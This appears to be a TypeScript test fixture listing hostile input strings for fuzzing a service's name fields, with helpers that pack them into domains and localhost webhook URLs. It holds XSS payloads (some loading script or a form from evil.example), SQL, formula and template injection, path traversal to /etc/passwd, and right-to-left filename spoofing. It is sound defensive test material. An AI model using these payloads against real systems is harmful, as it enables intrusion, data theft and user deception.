/** Sets a global that no page may ever have. */
const act = 'window.__xss=1';

/**
 * Texts that break pages that build markup from text, parsers that read it twice, layouts that trust in blanks, and
 * readers. All of them are names that the service's schemas take; what they refuse is left to the tests of the forms.
 */
export const hostileTexts: readonly string[] = [
  // Markup in many spellings
  `<script>${act}</script>`,
  `</script><script>${act}</script>`,
  `<ScRiPt >${act}</sCrIpT >`,
  `<script src=https://evil.example/x.js></script>`,
  `<img src=x onerror=${act}>`,
  `<img src=x:x onerror\u2028=${act}>`,
  `<svg onload=${act}>`,
  `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${act}>`,
  `<iframe srcdoc="&lt;script&gt;parent.${act}&lt;/script&gt;"></iframe>`,
  `<details open ontoggle=${act}>`,
  `<body onpageshow=${act}>`,
  `<input autofocus onfocus=${act}>`,
  `<a href="javascript:${act}">school</a>`,
  `<base href=https://evil.example/>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<style>*{display:none!important}</style>`,
  `<form action=https://evil.example/><button>Sign in</button>`,
  `<!--><img src=x onerror=${act}>-->`,
  `<![CDATA[<img src=x onerror=${act}>]]>`,
  `"><img src=x onerror=${act}>`,
  `' onmouseover='${act}`,
  `\`-${act}-\``,
  // Addresses that run
  `javascript:${act}`,
  `JaVaScRiPt://example.edu/%0a${act}`,
  `data:text/html,<script>parent.${act}</script>`,
  'vbscript:msgbox(1)',
  '//evil.example/path',
  'https://user:secret@evil.example/',
  // Templates and format strings
  `{{constructor.constructor("${act}")()}}`,
  `\${${act}}`,
  `<%= 7 * 7 %>`,
  `#{7*7} %s %d %n %x`,
  `__proto__`,
  'constructor',
  // What other programs would read into it
  `Robert'); DROP TABLE customer;--`,
  `" OR "1"="1`,
  '=HYPERLINK("https://evil.example/","Invoice")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '../../../../etc/passwd',
  String.raw`..\..\windows\system32\config`,
  '&lt;b&gt;bold&lt;/b&gt; &amp;amp; &#60;i&#62; &nbsp;',
  '%3Cscript%3E%00%0d%0aSet-Cookie:x=1 100%',
  '\\u003cscript\\u003e \\x3cb\\x3e',
  // Words that mean nothing
  'null',
  'undefined',
  'NaN',
  '[object Object]',
  'false',
  '0',
  '-1e1000',
  // What is wide, and what is not there
  'W'.repeat(256),
  'A very long name with words '.repeat(9).trim(),
  `${'ﷺ'.repeat(80)}`,
  '\u200b\u200b.\u200b',
  'Zero\u200bwidth\u200djoiners\u2060and\ufeffmarks',
  '\u3164.',
  // Scripts, directions and marks
  'School \u202egnp.exe',
  '\u2067\u202eright to left, never ended',
  'مدرسة Contoso (الابتدائية) 42',
  'בית ספר <b>',
  '東京大学附属小学校',
  `Z${'\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308'.repeat(9)}algo`,
  '👩‍👩‍👧‍👦🏳️‍🌈👍🏽🇺🇳 school',
  'Straße İstanbul ﬁne ǅ',
];

/** As much of a text as a domain may hold: nothing blank, no slash, no at sign. */
export function asDomain(text: string): string {
  const unbroken = text.replace(/[\s/\\@]/g, '').slice(0, 200);
  return unbroken === '' ? 'blank.example' : unbroken;
}

/** The texts in as few webhook addresses as hold them all: in the path of each, on a port where nobody listens. */
export function asWebhookUrls(texts: readonly string[]): readonly string[] {
  const urls: string[] = [];
  for (const text of texts) {
    const segment = `/${text.replaceAll('#', '')}`;
    const last = urls.at(-1);
    if (last !== undefined && last.length + segment.length <= 1_500) urls[urls.length - 1] = last + segment;
    else urls.push(`http://127.0.0.1:9${segment}`);
  }
  return urls;
}
